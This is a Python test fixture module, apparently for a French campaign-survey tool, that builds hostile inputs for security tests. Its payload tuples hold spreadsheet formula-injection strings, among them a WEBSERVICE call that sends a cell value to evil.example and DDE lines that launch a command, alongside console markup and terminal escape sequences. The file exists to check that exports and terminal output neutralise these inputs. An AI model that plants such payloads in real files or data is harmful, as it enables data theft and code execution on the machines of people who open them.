"""Hostile inputs shared by the security tests: texts, files and a campaign built from them.

Every string here is what an attacker can put where Témoin reads data it does not control:
a services CSV, a campaign file, an email's headers, a Telegram message. The tests feed them
through the real code paths and check what comes out (exports, reports, the terminal).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from storage.db import Database
from storage.stats import CampaignInfo, campaign_info
from tests import factories as f

# Cells a spreadsheet would evaluate (CSV injection / DDE), one of each way in.
FORMULAS = (
    '=WEBSERVICE("http://evil.example/"&A2)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    ' =HYPERLINK("http://evil.example/","clic")',  # a space first
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "#N/A",  # openpyxl would store it as an error value
)
# Rich console markup and raw terminal escapes.
MARKUP = (
    "Demande urgente [/]",
    "[link=http://evil.example/]Cliquez ici[/link]",
    "[bold red]ALERTE[/bold red] :warning:",
)
TITLE = '=HYPERLINK("http://evil.example/titre","Baromètre")'
TERMINAL_ESCAPES = "\x1b]8;;http://evil.example/\x1b\\lien\x1b]8;;\x1b\\ \x1b[2J\x1b[31mrouge"

NOW = datetime(2026, 2, 20, 9, 0, tzinfo=UTC)
SENT = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
CLOSE = datetime(2026, 3, 31, 18, 0, tzinfo=UTC)
_NUMBER = re.compile(r"-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")


def spreadsheet_would_evaluate(cell: str) -> bool:
    """The test's own oracle: a text a spreadsheet would read as a formula (not a number)."""
    if not cell or _NUMBER.fullmatch(cell):
        return False
    if cell[0] in "\t\r\n":
        return True
    stripped = cell.lstrip()
    return bool(stripped) and stripped[0] in "=+-@\uff1d\uff0b\uff0d\uff20"


@dataclass
class HostileCampaign:
    campaign: CampaignInfo
    names: list[str] = field(default_factory=list)  # collectivity and service names


async def build_hostile_campaign(database: Database, title: str = TITLE) -> HostileCampaign:
    """A closed campaign whose collectivities and services are named with ``FORMULAS``:
    one email each, every other one answered after a day."""
    names: list[str] = []
    async with database.session() as s:
        camp = await f.campaign(s, NOW, name="hostile", title=title, closed_at=CLOSE)
        persona = await f.persona(s, NOW, key="claire")
        for index, formula in enumerate(FORMULAS):
            coll = await f.collectivity(
                s, NOW, name=formula, insee_code=f"63{index + 1:03d}", population=1000 + index
            )
            service_name = f"{formula} (service)" if index % 2 else formula
            svc = await f.service(s, NOW, coll, name=service_name)
            names += [formula, service_name]
            answered = SENT + timedelta(days=1) if index % 2 == 0 else None
            await f.contact(
                s, NOW, camp, svc, planned_at=SENT, persona_id=persona.id, sent_at=SENT,
                status="answered" if answered else "sent", first_answer_at=answered,
            )  # fmt: skip
        info = await campaign_info(s, "hostile")
    assert info is not None
    return HostileCampaign(info, names)
